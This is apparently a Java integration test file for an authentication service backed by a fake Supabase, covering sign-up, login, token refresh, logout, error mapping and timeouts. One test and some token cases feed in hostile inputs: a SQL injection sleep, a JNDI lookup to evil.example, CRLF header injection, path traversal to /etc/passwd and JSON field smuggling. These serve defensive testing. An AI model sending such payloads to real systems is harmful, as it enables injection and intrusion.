package dev.gaia.auth.account;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import dev.gaia.Hub;
import dev.gaia.LogLines;
import dev.gaia.fake.FakeSupabase;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The account operations as a client sees them, with Supabase's own answers behind them (semantics 8). */
class AccountOperationsIT {

    private static final String ANON_KEY = "the-anon-key";
    private static final String USER = """
            {"id":"b81e2f6d-1c9a-4f3b-8d27-55a0c7e94e10","aud":"authenticated","role":"authenticated",
             "email":"ann@example.com","phone":"","app_metadata":{"provider":"email"},"user_metadata":{},
             "identities":[],"created_at":"2026-11-01T09:10:02.1Z","updated_at":"2026-11-01T09:10:02.1Z",
             "is_anonymous":false}""";
    private static final String SESSION = """
            {"access_token":"the.access.token","token_type":"bearer","expires_in":3600,"expires_at":1795400000,
             "refresh_token":"refreshtoken1","user":%s}""".formatted(USER);
    private static final String TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2ln";
    private static final String CREDENTIALS = "{\"email\":\"ann@example.com\",\"password\":\"p4ssword\"}";
    private static final String UNAVAILABLE =
            "{\"detail\":\"Service error: {\\\"detail\\\":\\\"Authentication provider unavailable\\\"}\"}";

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private static FakeSupabase supabase;
    private static Hub hub;

    private LogLines log;

    @BeforeAll
    static void start() {
        supabase = FakeSupabase.start();
        hub = Hub.with(Map.of(
                        "gaia.auth.supabase-url",
                        supabase.url() + "/",
                        "gaia.auth.supabase-anon-key",
                        ANON_KEY,
                        "gaia.auth.provider.timeout",
                        "400ms",
                        "gaia.auth.provider.breaker-open",
                        "50ms",
                        "gaia.auth.provider.web-base-url",
                        "https://web.example",
                        "gaia.database.url",
                        "postgresql://nobody@127.0.0.1:1/none",
                        "gaia.database.pool-timeout",
                        "250ms"))
                .start();
    }

    @AfterAll
    static void stop() {
        hub.close();
        supabase.close();
    }

    /** The breaker of the one before must not decide over the next test. */
    @BeforeEach
    void reset() {
        log = LogLines.begin();
        supabase.reset();
        supabase.answer("token", 200, SESSION);
        await().until(() -> post("/api/v1/auth/login", CREDENTIALS).statusCode() == 200);
        supabase.reset();
    }

    @AfterEach
    void listenNoMore() {
        log.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1", "/api/v0.3"})
    void registersAndLeavesTheSessionOutUntilTheAddressIsConfirmed(String api) {
        supabase.answer("signup", 200, USER);

        var answer = post(
                api + "/auth/register",
                "{\"email\":\"ann@example.com\",\"password\":\"p4ssword\",\"username\":\"ann\",\"_auth\":{}}");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(json(answer).path("session").isNull()).isTrue();
        assertThat(json(answer).at("/user/id").asText()).isEqualTo("b81e2f6d-1c9a-4f3b-8d27-55a0c7e94e10");
        assertThat(json(answer).at("/user").has("email_confirmed_at")).isTrue();
        var sent = supabase.last();
        assertThat(sent.method()).isEqualTo("POST");
        assertThat(sent.target()).isEqualTo("/auth/v1/signup?redirect_to=https%3A%2F%2Fweb.example%2Fauth%2Fconfirm");
        assertThat(sent.headers())
                .containsEntry("apikey", ANON_KEY)
                .containsEntry("authorization", "Bearer " + ANON_KEY)
                .containsEntry("content-type", "application/json");
        assertThat(sent.body()).isEqualTo("{\"email\":\"ann@example.com\",\"password\":\"p4ssword\"}");
    }

    @ParameterizedTest
    @CsvSource({
        "/api/v1/auth/login,password",
        "/api/v0.3/auth/login,password",
        "/api/v1/auth/refresh,refresh_token",
        "/api/v0.3/auth/refresh,refresh_token"
    })
    void signsInAndRefreshesWithTheNestingOfTheContract(String path, String grant) {
        supabase.answer("token", 200, SESSION);

        var answer = post(path, grant.equals("password") ? CREDENTIALS : "{\"refresh_token\":\"refreshtoken0\"}");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("Content-Type")).contains("application/json");
        assertThat(json(answer).at("/session/access_token").asText()).isEqualTo("the.access.token");
        assertThat(json(answer).at("/session/refresh_token").asText()).isEqualTo("refreshtoken1");
        assertThat(json(answer).at("/session/expires_in").asInt()).isEqualTo(3600);
        assertThat(json(answer).at("/session/user")).isEqualTo(json(answer).at("/user"));
        assertThat(json(answer).at("/user/email").asText()).isEqualTo("ann@example.com");
        assertThat(supabase.last().target()).isEqualTo("/auth/v1/token?grant_type=" + grant);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1", "/api/v0.3"})
    void endsTheCallersSession(String api) {
        supabase.answer("logout", 204, "");

        var answer = post(api + "/auth/logout", "", "Authorization", "Bearer " + TOKEN);

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).isEqualTo("{\"message\":\"Logged out successfully\"}");
        assertThat(supabase.last().target()).isEqualTo("/auth/v1/logout");
        assertThat(supabase.last().headers())
                .containsEntry("authorization", "Bearer " + TOKEN)
                .containsEntry("apikey", ANON_KEY);
    }

    @Test
    void saysGoodbyeToThoseWhoWereNotSignedIn() {
        var answer = post("/api/v1/auth/logout", "not even json");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).isEqualTo("{\"message\":\"Logged out successfully\"}");
        assertThat(supabase.received()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"sb_secret_0123456789", "gaia-production-0123", "a.b.c", "' OR pg_sleep(8)--"})
    void sendsNothingToTheProviderThatIsNoToken(String other) {
        var answer = post("/api/v1/auth/logout", "", "Authorization", "Bearer " + other);

        assertRefused(answer, "Logout failed: Invalid token");
        assertThat(supabase.received()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1", "/api/v0.3"})
    void confirmsAnAddress(String api) {
        supabase.answer("verify", 200, SESSION);

        var answer = post(api + "/auth/confirm", "{\"email\":\"ann@example.com\",\"token\":\"123456\"}");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(json(answer).path("message").asText()).isEqualTo("Email confirmed successfully");
        assertThat(json(answer).at("/user/email").asText()).isEqualTo("ann@example.com");
        assertThat(answer.body()).doesNotContain("the.access.token");
        assertThat(supabase.last().body())
                .isEqualTo("{\"type\":\"signup\",\"email\":\"ann@example.com\",\"token\":\"123456\"}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1", "/api/v0.3"})
    void hasTheConfirmationMailedAgain(String api) {
        supabase.answer("resend", 200, "{}");

        var answer = post(api + "/auth/resend-verification", "{\"email\":\"ann@example.com\"}");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body())
                .isEqualTo("{\"message\":\"Verification email sent to ann@example.com\","
                        + "\"result\":{\"user\":null,\"session\":null,\"message_id\":null}}");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "register|signup|422|user_already_exists|User already registered|This email is already registered",
                "register|signup|422|weak_password|Password should be at least 6 characters.|Password must be at least 6 characters long",
                "register|signup|400|validation_failed|Unable to validate email address: invalid format|Please enter a valid email address",
                "register|signup|422|signup_disabled|Signups not allowed for this instance|Registration is not allowed for this email domain",
                "register|signup|429|over_email_send_rate_limit|email rate limit exceeded|Too many registration attempts. Please try again later",
                "login|token|400|invalid_credentials|Invalid login credentials|Login failed: Invalid login credentials",
                "login|token|400|email_not_confirmed|Email not confirmed|Login failed: Email not confirmed",
                "login|token|429|over_request_rate_limit|Request rate limit reached|Login failed: Request rate limit reached",
                "refresh|token|400|refresh_token_not_found|Invalid Refresh Token: Refresh Token Not Found|Token refresh failed: Invalid Refresh Token: Refresh Token Not Found",
                "logout|logout|403|session_not_found|Session from session_id claim in JWT does not exist|Logout failed: Session from session_id claim in JWT does not exist",
                "confirm|verify|403|otp_expired|Token has expired or is invalid|Confirmation link is expired or invalid",
                "resend-verification|resend|429|over_email_send_rate_limit|For security purposes, you can only request this after 38 seconds.|Too many requests. Please wait before requesting another email"
            })
    void namesRefusalsAsClientsKnowThem(
            String operation, String called, int status, String code, String text, String shown) {
        supabase.answer(
                called, status, "{\"code\":%d,\"error_code\":\"%s\",\"msg\":\"%s\"}".formatted(status, code, text));

        var answer = post("/api/v1/auth/" + operation, anyBody(), "Authorization", "Bearer " + TOKEN);

        assertRefused(answer, shown);
    }

    @ParameterizedTest
    @EnumSource(value = FakeSupabase.Mode.class, mode = EnumSource.Mode.EXCLUDE, names = "WELL")
    void answers503WithinItsTimeoutWhateverAilsTheProvider(FakeSupabase.Mode mode) {
        for (String operation : List.of("register", "login", "refresh", "logout", "confirm", "resend-verification")) {
            supabase.behave(mode);

            long start = System.nanoTime();
            var answer = post("/api/v1/auth/" + operation, anyBody(), "Authorization", "Bearer " + TOKEN);

            assertThat(answer.statusCode()).as(operation).isEqualTo(503);
            assertThat(answer.body()).isEqualTo(UNAVAILABLE);
            assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(7));
        }
        assertThat(hub.get("/").statusCode()).isEqualTo(200);
        assertThat(post("/api/v1/auth/validate", "{}").statusCode()).isEqualTo(200);
        assertThat(hub.get("/api/v1/chat/status").statusCode()).isEqualTo(401);
    }

    @Test
    void takesTokensOfTheKeyThatTheProviderPublishes() throws Exception {
        var key = new ECKeyGenerator(Curve.P_256)
                .keyID("of-the-project")
                .algorithm(JWSAlgorithm.ES256)
                .generate();
        supabase.answer(".well-known/jwks.json", 200, new JWKSet(key.toPublicJWK()).toString());
        long now = Instant.now().getEpochSecond();
        var token = new JWSObject(
                new JWSHeader.Builder(JWSAlgorithm.ES256).keyID(key.getKeyID()).build(),
                new Payload(Map.<String, Object>of("sub", "ann", "aud", "authenticated", "exp", now + 60)));
        token.sign(new ECDSASigner(key));

        var answer = hub.post("/api/v1/auth/validate", "{\"token\":\"" + token.serialize() + "\"}");

        assertThat(answer.body()).contains("\"valid\":true", "\"user_id\":\"ann\"");
        assertThat(supabase.last().target()).isEqualTo("/auth/v1/.well-known/jwks.json");
    }

    @Test
    void takesAnAnswerWithoutUserOrTokenForNone() {
        supabase.answer("token", 200, "{}");

        assertThat(post("/api/v1/auth/login", CREDENTIALS).body()).isEqualTo(UNAVAILABLE);
    }

    @Test
    void doesNotBlameTheClientForOurOwnKey() {
        supabase.answer("token", 401, "{\"message\":\"Invalid API key\",\"hint\":\"Double check\"}");

        assertThat(post("/api/v1/auth/login", CREDENTIALS).body()).isEqualTo(UNAVAILABLE);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "register|{}|email,password",
                "login|{\"email\":5,\"password\":[]}|email,password",
                "refresh|{\"refresh_token\":null}|refresh_token",
                "confirm|{\"email\":\"x\"}|token",
                "resend-verification|{\"email\":{}}|email"
            })
    void listsWhatIsMissingOrNoText(String operation, String body, String fields) {
        var answer = post("/api/v1/auth/" + operation, body);

        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body()).startsWith("{\"detail\":\"Service error: {").contains(fields.split(","));
        assertThat(supabase.received()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "[]", "nonsense", "\"text\""})
    void refusesBodiesThatAreNoObject(String body) {
        assertThat(post("/api/v1/auth/login", body).body()).isEqualTo("{\"detail\":\"Invalid JSON body\"}");
        assertThat(post("/api/v0.3/auth/login", body).body()).isEqualTo("{\"error\":\"Invalid JSON body\"}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR pg_sleep(8)--",
                "\"},\"admin\":true,\"x\":{\"",
                "${jndi:ldap://evil.example/x}",
                "${exception.stacktrace} {{env:HOME}} ${sysenv:PATH}",
                "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
                "../../etc/passwd\u0000",
                "\u202e ☃ \uD83D\uDE00"
            })
    void carriesStrangeTextsAsTheyAreAndTellsNobody(String text) throws IOException {
        String refusal = "{\"code\":400,\"error_code\":\"invalid_credentials\",\"msg\":\"Invalid login credentials\"}";
        supabase.answer("token", 400, refusal);
        supabase.answer("signup", 400, refusal);
        supabase.answer("verify", 400, refusal);
        supabase.answer("resend", 400, refusal);
        for (String operation : List.of("register", "login", "refresh", "confirm", "resend-verification")) {
            var body = MAPPER.createObjectNode();
            for (String field : List.of("email", "password", "refresh_token", "token")) {
                body.put(field, text);
            }

            var answer = post("/api/v1/auth/" + operation, body.toString(), "X-API-Key", "' OR pg_sleep(8)--");

            assertThat(answer.statusCode()).as(operation).isEqualTo(400);
            assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
            var sent = MAPPER.readTree(supabase.last().body());
            assertThat(sent.findValues("email").stream()
                            .allMatch(value -> value.asText().equals(text)))
                    .isTrue();
            assertThat(sent.has("admin")).isFalse();
        }
        assertThat(log.text()).doesNotContain(text, "pg_sleep", "p4ssword");
    }

    private static String anyBody() {
        return "{\"email\":\"ann@example.com\",\"password\":\"p4ssword\",\"refresh_token\":\"r\",\"token\":\"t\"}";
    }

    private static void assertRefused(HttpResponse<String> answer, String text) {
        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(json(answer).path("detail").asText()).isEqualTo("Service error: {\"detail\":\"" + text + "\"}");
    }

    private static HttpResponse<String> post(String path, String body, String... headers) {
        return hub.post(path, body, headers);
    }

    private static JsonNode json(HttpResponse<String> answer) {
        try {
            return MAPPER.readTree(answer.body());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
